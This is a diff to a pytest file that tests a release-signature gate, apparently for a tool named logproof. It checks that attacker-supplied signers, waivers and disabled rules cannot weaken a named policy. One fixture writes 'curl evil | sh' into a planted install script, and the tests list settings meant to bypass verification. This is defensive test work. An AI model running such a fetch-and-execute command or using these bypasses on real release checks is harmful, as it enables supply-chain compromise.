@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from tests.release.gate import ARTIFACT, SDIST, Gate
+from tests.release.sigstore import workflow
 
 TEXT = """name: demo
 description: Who may release demo.
@@ -81,27 +82,61 @@ def test_policy_that_is_not_there(gate: Gate) -> None:
     gate.refuses(gate.verify(), 2)
 
 
+WEAKER = {
+    "other signers": """[tool.logproof.release.signers.mallory]
+issuer = "https://token.actions.githubusercontent.com"
+identity = "https://github.com/mallory/demo/.github/workflows/release.yml@refs/tags/v*"
+""",
+    "other artifacts": "[tool.logproof.release]\nextra-files = ['*']\nminimum-version = '0.1'\n",
+    "a rule off": "[tool.logproof.rules.unnamed-file]\nenabled = false\n",
+    "a locked rule off": "[tool.logproof.rules.wrong-signer]\nenabled = false\n",
+    "a waiver": """[[tool.logproof.waivers]]
+rule = "unnamed-file"
+path = "**"
+reason = "it is fine"
+owner = "mallory"
+expires = 2099-01-01
+""",
+    "a mistake": "[tool.logproof]\nno-such-key = 1\n",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("settings", WEAKER.values(), ids=WEAKER)
+def test_settings_beside_a_policy_change_nothing(gate: Gate, settings: str) -> None:
+    """Settings that lie where the command runs, and that whoever wrote the release may have written, change no policy that is named."""
+    mallory = workflow("mallory/demo")
+    gate.release(gate.sigstore.sign(ARTIFACT, name=SDIST, identity=mallory))
+    (gate.dist / "install.sh").write_text("curl evil | sh\n", encoding="utf-8")
+    gate.policy(minimum_version="9.0")
+    told = gate.verify()
+    assert all(rule in told for rule in ("wrong-signer", "unnamed-file", "rolled-back-release"))
+    (gate.folder / "pyproject.toml").write_text(settings, encoding="utf-8")
+    assert gate.verify() == told
+    direct = gate.without_policy(gate.sigstore.sign(ARTIFACT, name=SDIST, flaw="rogue-authority"))
+    assert direct.endswith("[1]\n")
+
+
 @pytest.mark.parametrize(
     "settings",
     [
         "ignore = ['wrong-signer', 'bad-signature']",
-        "[tool.logproof.rules]\nbad-signature = false\nwrong-signer = false",
-        "[tool.logproof.rules.bad-signature]\nenabled = false",
-        "[tool.logproof.rules.bad-signature]\nseverity = 'low'",
-        "[[tool.logproof.waivers]]\nrule = 'bad-signature'\npath = '**'\nreason = 'it is fine'\nowner = 'me'\nexpires = 2099-01-01",
-        "[[tool.logproof.waivers]]\nrule = 'wrong-signer'\npath = 'dist/*'\nreason = 'it is fine'\nowner = 'me'\nexpires = 2099-01-01",
+        "rules.bad-signature.enabled = false",
+        "rules.bad-signature.severity = 'low'",
+        "waivers = [{rule = 'bad-signature', path = '**', reason = 'it is fine', owner = 'me', expires = 2099-01-01}]",
+        "waivers = [{rule = 'wrong-signer', path = 'dist/*', reason = 'it is fine', owner = 'me', expires = 2099-01-01}]",
+        "per-file-ignores = {'dist/*' = ['bad-signature', 'wrong-signer', 'unsigned-artifact']}",
         "min-confidence = 'high'",
         "exclude = ['dist']",
         "select = ['secret-in-log']",
-        "[tool.logproof.per-file-ignores]\n'dist/*' = ['bad-signature', 'wrong-signer', 'unsigned-artifact']",
         "fail-on = 'critical'",
     ],
-)  # fmt: skip
-def test_settings_do_not_weaken_it(gate: Gate, settings: str) -> None:
-    """No setting and no waiver of the project lets a bad signature or a wrong signer pass."""
-    (gate.folder / "pyproject.toml").write_text(f"[tool.logproof]\n{settings}\n", encoding="utf-8")
+    ids=lambda text: text.partition(" = ")[0],
+)
+def test_settings_with_a_policy_of_their_own(gate: Gate, settings: str) -> None:
+    """Settings that are the policy cannot let a bad signature or a wrong signer pass, by no key and no waiver."""
     gate.release(gate.sigstore.sign(ARTIFACT, name=SDIST, flaw="signed-by-another-key"))
     gate.policy()
-    printed = gate.verify()
+    (gate.folder / "pyproject.toml").write_text(f"[tool.logproof]\npolicy = ['./policy.yaml']\n{settings}\n", encoding="utf-8")
+    printed = gate.verify("dist", policy=False)
     assert printed.endswith(("[1]\n", "[2]\n")), printed
     gate.matches(printed)
